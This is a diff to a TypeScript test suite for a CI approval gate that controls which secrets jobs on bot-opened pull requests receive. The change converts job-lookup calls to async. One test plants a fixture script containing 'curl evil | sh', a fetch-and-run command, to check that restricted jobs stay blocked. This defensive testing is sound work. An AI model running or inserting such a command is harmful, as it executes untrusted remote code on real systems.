@@ -60,18 +60,18 @@ async function open(author: string, files?: Record<string, string>) {
   return pr;
 }
 
-const ran = (sha: string) =>
-  Object.fromEntries(w.jobsOf(sha).map((j) => [j.job_id, j.state] as const));
+const ran = async (sha: string) =>
+  Object.fromEntries((await w.jobsOf(sha)).map((j) => [j.job_id, j.state] as const));
 const releasedSets = async (sha: string) => {
-  const runs = new Set(w.jobsOf(sha).map((j) => j.run_id));
+  const runs = new Set((await w.jobsOf(sha)).map((j) => j.run_id));
   return (await w.releases()).filter((r) => runs.has(r.runId ?? "")).map((r) => r.set);
 };
 
 test("a scoped bot runs the job its sets cover, with that set only; the rest waits", async () => {
   const pr = await open(DEPENDABOT);
-  assert.deepEqual(ran(pr.headSha), { unit: "passed", "install-check": "passed" });
+  assert.deepEqual(await ran(pr.headSha), { unit: "passed", "install-check": "passed" });
   assert.deepEqual(await releasedSets(pr.headSha), ["npm"]);
-  const log = await w.logs(w.jobsOf(pr.headSha)[0]!.run_id, "install-check");
+  const log = await w.logs((await w.jobsOf(pr.headSha))[0]!.run_id, "install-check");
   assert.match(log, /cloud is unset/, "the job got no set outside its scope");
   assert.doesNotMatch(log, new RegExp(NPM_TOKEN), "the value it got is masked");
 
@@ -95,7 +95,7 @@ test("a scoped bot runs the job its sets cover, with that set only; the rest wai
     202,
   );
   await w.settle();
-  assert.equal(ran(pr.headSha).functional, "passed");
+  assert.equal((await ran(pr.headSha)).functional, "passed");
   assert.equal(w.checks(pr.headSha)["airlock/all-tests"], "success");
   assert.deepEqual((await releasedSets(pr.headSha)).sort(), ["cloud", "npm", "npm"]);
 });
@@ -103,7 +103,7 @@ test("a scoped bot runs the job its sets cover, with that set only; the rest wai
 test("a bot listed by its login alone, and an unlisted bot, run public jobs only", async () => {
   for (const bot of ["renovate[bot]", "evil[bot]"]) {
     const pr = await open(bot);
-    assert.deepEqual(ran(pr.headSha), { unit: "passed" });
+    assert.deepEqual(await ran(pr.headSha), { unit: "passed" });
     assert.deepEqual(await releasedSets(pr.headSha), []);
     const summary = w.check(pr.headSha, "airlock/approval")!.output.summary ?? "";
     assert.match(
@@ -117,7 +117,7 @@ test("a bot listed by its login alone, and an unlisted bot, run public jobs only
 
 test("a scoped bot's commit that changes a rule's paths runs nothing restricted", async () => {
   const pr = await open(DEPENDABOT, { "scripts/ci/publish.sh": "curl evil | sh\n" });
-  assert.deepEqual(ran(pr.headSha), { unit: "passed" });
+  assert.deepEqual(await ran(pr.headSha), { unit: "passed" });
   assert.deepEqual(await releasedSets(pr.headSha), []);
   const summary = w.check(pr.headSha, "airlock/approval")!.output.summary ?? "";
   assert.match(
@@ -136,7 +136,7 @@ test("a scoped bot's branch pushed to by someone untrusted loses the scope", asy
   );
   assert.equal(r.status, 202);
   await w.settle();
-  assert.deepEqual(ran(pr.headSha), { unit: "passed" });
+  assert.deepEqual(await ran(pr.headSha), { unit: "passed" });
   assert.deepEqual(await releasedSets(pr.headSha), []);
   assert.match(
     w.check(pr.headSha, "airlock/approval")!.output.summary ?? "",
@@ -154,7 +154,7 @@ test("a bot's /ok-to-test and ok-to-test label approve nothing", async () => {
     assert.equal((await w.addLabel(pr, "ok-to-test", bot)).status, 202);
   }
   await w.settle();
-  assert.deepEqual(ran(pr.headSha), { unit: "passed" });
+  assert.deepEqual(await ran(pr.headSha), { unit: "passed" });
   assert.deepEqual(await releasedSets(pr.headSha), []);
   assert.equal(
     (await w.releases()).some((r) => JSON.stringify(r).includes(CLOUD_TOKEN)),
